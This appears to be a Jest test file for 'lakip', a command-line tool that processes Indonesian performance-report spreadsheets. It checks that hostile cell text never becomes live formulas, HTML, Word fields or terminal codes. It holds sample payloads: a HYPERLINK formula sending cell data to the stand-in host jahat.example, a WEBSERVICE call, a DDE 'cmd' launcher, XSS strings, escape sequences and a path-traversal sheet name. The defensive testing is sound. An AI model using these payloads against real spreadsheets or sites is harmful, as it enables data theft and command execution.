import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { computeWorkbook } from '../../src/app/computeWorkbook';
import { checkWorkbook } from '../../src/app/checkWorkbook';
import { runLakip } from '../cli/runLakip';
import { contentOf, type Row } from '../helpers/officeWorkbook';
import { partsOf, xlsxOf } from '../helpers/xlsx';

/** What an attacker types into names: formulas of every kind, markup, terminal codes. */
const TEXTS = [
  '=HYPERLINK("http://jahat.example/?"&A1,"klik")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3+WEBSERVICE("http://jahat.example")',
  '@SUM(1+1)',
  '\t=1+1',
  '<script>alert(document.domain)</script>',
  '"><img src=x onerror=alert(1)>',
  ']]></t><f>1+1</f>',
  'nama \u001b[2J\u001b]0;judul\u0007 palsu',
];
const HEADER: Row = ['No', 'Sasaran', 'Indikator Kinerja', 'Target', 'Realisasi', 'Capaian', 'Kriteria'];
/** Their printed capaian is wrong, so that each name stands in a finding; the other rows are right. */
const RIGHT = Array.from({ length: 20 }, (_, place): Row => {
  const name = `Jumlah layanan ${String.fromCodePoint(97 + place).repeat(3)}`;
  return [TEXTS.length + place + 1, 'Layanan', name, 80, 90, 112.5, 'Sangat Baik'];
});
const ROWS = [
  ...TEXTS.map((text, place): Row => [place + 1, text, `${text} `, 80, 90, 55, 'Sangat Baik']),
  ...RIGHT,
];
const SHEET = "../=x'|jahat";

let folder = '';
const at = (name: string) => join(folder, name);
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'lakip-jahat-'));
  writeFileSync(at('jahat.xlsx'), xlsxOf([{ sheet: SHEET, cells: [HEADER, ...ROWS] }]));
});
afterEach(() => rmSync(folder, { recursive: true }));

const OWN_LINK = /^<f>HYPERLINK\(&quot;#'(LAKIP [\w .]+)'!A1&quot;,&quot;(?:\S+ )?\1&quot;\)<\/f>$/;

/** Formulas of all sheets of a workbook. */
function formulasIn(file: string): string[] {
  return Object.entries(partsOf(readFileSync(file)))
    .filter(([name]) => name.startsWith('xl/worksheets/'))
    .flatMap(([, xml]) => [...xml.matchAll(/<f[ >][^<]*<\/f>/g)].map(([formula]) => formula));
}

describe('texts of a workbook', () => {
  it.each(['nilai', 'rumus', 'lakip'])(
    'are never written as a formula, in no sheet that hitung makes (%s)',
    async (mode) => {
      const options = ['--laporan', '--mode', mode, '--keluaran', at('hasil.xlsx')];
      const { err } = await runLakip('hitung', at('jahat.xlsx'), ...options);
      expect(err).toBe('');
      // The links of the contents are of LAKIP: names of its own sheets, in that form, with an arrow or without, and no other.
      const formulas = formulasIn(at('hasil.xlsx')).filter((formula) => !OWN_LINK.test(formula));
      expect(formulas.filter((formula) => /HYPERLINK|WEBSERVICE|cmd|SUM\(1/.test(formula))).toEqual([]);
      expect(formulas.length > 0).toBe(mode !== 'nilai');
    },
  );

  it('are neither formulas in the sheet of Periksa nor markup in its page', async () => {
    await runLakip(
      'periksa',
      at('jahat.xlsx'),
      '--html',
      at('a.html'),
      '--keluaran',
      at('periksa.xlsx'),
      '--tandai',
    );
    // The sheet of Periksa leads to cells of this workbook, by formulas of its own.
    const formulas = formulasIn(at('periksa.xlsx'));
    expect(
      formulas.filter((formula) => !/^<f>HYPERLINK\("#/.test(formula.replaceAll('&quot;', '"'))),
    ).toEqual([]);
    const page = readFileSync(at('a.html'), 'utf8');
    expect(page).toContain('&lt;script&gt;alert(document.domain)&lt;/script&gt;');
    expect(page.match(/<(?:script|img|f)\b/g)).toBeNull();
    expect(page).toContain(`content="default-src 'none'; style-src 'unsafe-inline'"`);
  });

  it('are neither fields nor markup in the Word report', async () => {
    const { code } = await runLakip('laporan', at('jahat.xlsx'), '--keluaran', at('laporan.docx'));
    expect(code).not.toBe(2);
    const parts = Object.entries(partsOf(readFileSync(at('laporan.docx'))));
    const xml = parts.flatMap(([name, text]) => (/\.(?:xml|rels)$/.test(name) ? [text] : [])).join('\n');
    expect(xml).toContain('&lt;script&gt;alert(document.domain)&lt;/script&gt;');
    const fields = [...xml.matchAll(/<w:instrText[^>]*>([^<]*)/g)].map(([, field]) => field);
    expect(fields.filter((field) => /HYPERLINK|WEBSERVICE|DDE|cmd/.test(field ?? ''))).toEqual([]);
    expect(xml.match(/<(?:script|img)\b|jahat\.example[^<]*"|TargetMode="External"[^>]*jahat/g)).toBeNull();
  });

  it('are no formulas in the workbook of rekap', async () => {
    await runLakip('rekap', folder, '--keluaran', at('rekap.xlsx'));
    expect(
      formulasIn(at('rekap.xlsx')).filter((formula) => /HYPERLINK|WEBSERVICE|cmd/.test(formula)),
    ).toEqual([]);
  });

  it('send no code to the terminal, nor do names of files', async () => {
    const name = 'palsu\u001b[2J.xlsx';
    writeFileSync(at(name), readFileSync(at('jahat.xlsx')));
    const printed = [
      await runLakip('hitung', at(name)),
      await runLakip('kenali', at(name)),
      await runLakip('periksa', at(name)),
      await runLakip('rekap', folder, '--keluaran', at('rekap.xlsx')),
      await runLakip('hitung', at(`tidak ada\u001b[2J.xlsx`)),
    ];
    expect(printed.map(({ out, err }) => out + err).filter((text) => text.includes('\u001b'))).toEqual([]);
  });

  it('name no file: everything is written where it was asked for', async () => {
    await runLakip('hitung', at('jahat.xlsx'), '--laporan', '--keluaran', at('hasil.xlsx'));
    expect(readdirSync(folder).sort()).toEqual(['hasil.xlsx', 'jahat.xlsx']);
    expect(existsSync(join(folder, '..', "=x'|jahat"))).toBe(false);
  });
});

describe('names that are those of built-in members', () => {
  const named = (word: string): unknown => {
    const cells: Row[] = [
      ['No', 'Sasaran', 'Indikator Kinerja', 'Target', 'Realisasi'],
      [`${word} Perspective`, null, null, null, null],
      [1, word, word, 80, 90],
      [2, null, `Indeks ${word}`, 80, 70],
      [`NILAI PENCAPAIAN PERSPEKTIF (${word})`, null, null, null, null],
      ['NPS TOTAL', null, null, null, null],
    ];
    const content = contentOf([{ sheet: 'S', cells }]);
    const result = computeWorkbook(content);
    const check = checkWorkbook(content, result, null);
    return [result.scorecard?.total, result.plan.edits, check?.findings.length];
  };

  it.each(['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf'])('%s is a name', (word) => {
    expect(named(word)).toEqual(named('pelayanan'));
  });
});

describe('very long texts', () => {
  // Any time that grows faster than the text would end this test: 120,000 squared is 14,400,000,000.
  it.each([
    '1', ' ', '\t ', '(', '()', '1.', '1,', '-', '%', 'a', 'balai ', 's.d. ', 'tahun 2021 ', 'TW I ', '"', '/', '\n', '≥ ',
    'meningkat sebesar 1 ', 'IKU 1.1 ',
  ])('of %j are read in a time that grows with their length', (part) => {
    const text = part.repeat(120_000 / part.length);
    const rows: Row[] = [[...HEADER.slice(0, 5), text], [1, text, text, text, text], [2, text, 'Indeks x', 80, 90], [text]];
    const content = contentOf([{ sheet: 'S', cells: rows }]);
    const result = computeWorkbook(content);
    checkWorkbook(content, result, null);
    expect(result.plan.edits.length).toBeLessThan(3);
  }, 60_000); // prettier-ignore
});
